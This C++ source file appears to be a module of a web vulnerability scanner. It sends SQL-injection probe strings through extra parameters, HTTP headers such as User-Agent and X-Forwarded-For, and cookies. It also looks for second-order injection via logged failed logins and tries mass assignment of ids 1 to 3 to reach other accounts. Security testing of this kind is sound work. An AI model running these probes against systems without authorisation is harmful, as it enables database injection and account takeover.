#include "core/attack/side_doors.h"

#include <algorithm>
#include <vector>

#include "core/attack/options.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"
#include "core/http/percent.h"

namespace parapet::attack {
namespace {

using Names = std::vector<std::string>;

void add_member(http::Request& request, std::string const& name, std::string const& value) {
    request.target += request.target.find('?') == std::string::npos ? '?' : '&';
    request.target += name + "=" + value;
    if (!request.body.ends_with('}')) return;
    request.body.pop_back();
    request.body += (request.body.ends_with('{') ? "" : ",") + json_string(name) + ":" +
                    json_string(value) + "}";
}

// "name=value" of each Set-Cookie.
Names cookies_of(http::Response const& response) {
    Names pairs;
    for (std::string_view line : response.headers.all("set-cookie"))
        pairs.emplace_back(line.substr(0, line.find(';')));
    return pairs;
}

class SideDoors {
public:
    explicit SideDoors(Target& target) : target_(target) {}

    void run() {
        session_ = cookies_of(sign_in_answer(target_, target_.surface().attacker));
        for (Endpoint const* endpoint : endpoints_to_try(target_)) {
            add_odd_member(*endpoint);
            leave_out(*endpoint);
        }
        for (Endpoint const* endpoint : endpoints_to_try(target_)) {
            use_what_it_has_left(*endpoint);
            add_names_it_binds(*endpoint);
        }
    }

private:
    std::vector<std::string> ordinary_values(Endpoint const& endpoint) const {
        std::vector<std::string> values = samples(endpoint);
        std::size_t const username = username_parameter(endpoint);
        std::size_t const password = password_parameter(endpoint);
        if (endpoint.id == option_or(target_, option::kSignup, "signup") &&
            username < values.size())
            values[username] = random_word(target_, 8);
        if (password < values.size()) values[password] = target_.surface().attacker.password;
        return values;
    }

    // Ends a comment, or else a string, or else is wrong as a number.
    std::string text() const { return random_word(target_, 4) + "*/'||(8)||'/*"; }

    http::Response send(http::Request const& request) {
        http::Response response = target_.send(request);
        for (std::string const& cookie : cookies_of(response)) remember(cookie);
        return response;
    }

    void remember(std::string const& cookie) {
        std::string name = cookie.substr(0, cookie.find('='));
        auto const is_of_session = [&](std::string const& pair) {
            return pair.starts_with(name + "=");
        };
        if (std::any_of(session_.begin(), session_.end(), is_of_session)) return;
        if (std::find(left_.begin(), left_.end(), name) == left_.end())
            left_.push_back(std::move(name));
    }

    // In an address that is not encoded: what only writes down what came may paste it.
    void add_odd_member(Endpoint const& endpoint) {
        http::Request request = write_request(endpoint, ordinary_values(endpoint));
        std::string const member = random_word(target_, 4) + "*/OR(8)/*'";
        add_member(request, member, member);
        for (char const* name :
             {"User-Agent", "Referer", "X-Forwarded-For", "X-Real-IP", "Accept-Language"})
            request.headers.set(name, text());
        send(request);
        // What is noted of those who may not come in is another statement.
        std::size_t const password = password_parameter(endpoint);
        if (endpoint.id != option_or(target_, option::kLogin, "login")) return;
        if (password == endpoint.parameters.size()) return;
        std::vector<std::string> values = ordinary_values(endpoint);
        values[password] += random_word(target_, 4);
        http::Request wrong = write_request(endpoint, values);
        for (http::Header const& header : request.headers.entries())
            wrong.headers.set(header.name, header.value);
        send(wrong);
    }

    // His session, and the text as every other cookie there may be: a parameter's name may be one.
    std::string cookies_for(Endpoint const& endpoint) const {
        std::string line;
        for (std::string const& pair : session_) line += pair + "; ";
        Names names = left_;
        for (Parameter const& each : endpoint.parameters) names.push_back(each.name);
        for (std::string const& name : names)
            line += name + "=" + http::percent_encode(text()) + "; ";
        return line.substr(0, line.find_last_not_of("; ") + 1);
    }

    // Each parameter once, which also tells what the app does not go without; and then the text in
    // each beside only those.
    void leave_out(Endpoint const& endpoint) {
        std::vector<bool> needed(endpoint.parameters.size(), true);
        for (std::size_t i = 0; i < needed.size(); ++i) {
            if (endpoint.parameters[i].place == Place::PathSegment) continue;
            http::Request request =
                write_request(endpoint, ordinary_values(endpoint), {i, "", Dress::Missing});
            request.headers.set("Cookie", cookies_for(endpoint));
            needed[i] = !succeeded(send(request));
        }
        for (std::size_t i = 0; i < needed.size(); ++i) {
            Endpoint fewer = endpoint;
            std::vector<std::string> const all = ordinary_values(endpoint);
            std::vector<std::string> values;
            fewer.parameters.clear();
            for (std::size_t j = 0; j < needed.size(); ++j) {
                if (!needed[j] && j != i) continue;
                fewer.parameters.push_back(endpoint.parameters[j]);
                values.push_back(j == i ? all[j] + text() : all[j]);
            }
            bool const password = i == password_parameter(endpoint);
            if (!password && values.size() < needed.size()) send(write_request(fewer, values));
        }
    }

    // Cookies that he has written, and the app's own: what it remembers of one request it may use
    // in the next.
    void use_what_it_has_left(Endpoint const& endpoint) {
        if (left_.empty()) return;
        http::Request request = write_request(endpoint, ordinary_values(endpoint));
        request.headers.set("Cookie", cookies_for(endpoint));
        send(request);
        for (std::size_t i = 0; i < endpoint.parameters.size(); ++i) {
            std::vector<std::string> values = ordinary_values(endpoint);
            values[i] += text();
            send(write_request(endpoint, values));
            send(write_request(endpoint, ordinary_values(endpoint), {i, "", Dress::Missing}));
        }
    }

    // An object from a request, taken for the values of a statement, may hold what the app meant to
    // fill in itself. The first accounts are somebody else's.
    void add_names_it_binds(Endpoint const& endpoint) {
        Names names = target_.bound_names();
        std::erase_if(names, [&](std::string const& name) {
            return std::any_of(endpoint.parameters.begin(), endpoint.parameters.end(),
                               [&](Parameter const& each) { return each.name == name; });
        });
        if (names.empty()) return;
        for (char const* id : {"1", "2", "3"}) {
            http::Request request = write_request(endpoint, ordinary_values(endpoint));
            for (std::string const& name : names) add_member(request, name, id);
            send(request);
            if (!endpoint.signed_in) return;
        }
    }

    Target& target_;
    Names session_;  // "name=value"
    Names left_;     // names of other cookies that it has set
};

}  // namespace

void try_side_doors(Target& target) { SideDoors(target).run(); }

}  // namespace parapet::attack
